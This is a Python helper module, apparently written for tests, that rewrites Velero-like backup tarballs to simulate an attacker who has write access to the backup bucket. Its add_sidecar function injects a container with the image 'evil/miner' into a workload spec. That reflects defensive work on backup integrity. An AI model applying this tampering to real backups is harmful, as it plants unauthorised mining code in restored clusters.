"""Rewrite a backup's tarball the way an attacker with bucket write access would."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from pathlib import Path
from typing import Callable

Entries = list[tuple[str, bytes]]


def read_entries(tarball: Path) -> Entries:
    with tarfile.open(tarball, "r:gz") as tar:
        return [(m.name, tar.extractfile(m).read()) for m in tar.getmembers()]


def targz(entries: Entries, *, level: int = 6) -> bytes:
    """A valid Velero-like tar.gz (PAX where names are long), as Python's tarfile writes it."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(data), 0o755, 1764221678
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(buffer.getvalue(), compresslevel=level, mtime=0)


def write_entries(tarball: Path, entries: Entries, *, level: int = 6) -> None:
    """``targz(entries)`` written to ``tarball``."""
    tarball.write_bytes(targz(entries, level=level))


def rewrite(tarball: Path, change: Callable[[Entries], Entries]) -> None:
    write_entries(tarball, change(read_entries(tarball)))


def first(entries: Entries, prefix: str) -> str:
    return next(name for name, _ in entries if name.startswith(prefix))


def add_sidecar(data: bytes) -> bytes:
    obj = json.loads(data)
    obj["spec"]["template"]["spec"]["containers"].append({"name": "sidecar", "image": "evil/miner"})
    return json.dumps(obj, separators=(",", ":"), sort_keys=True).encode()
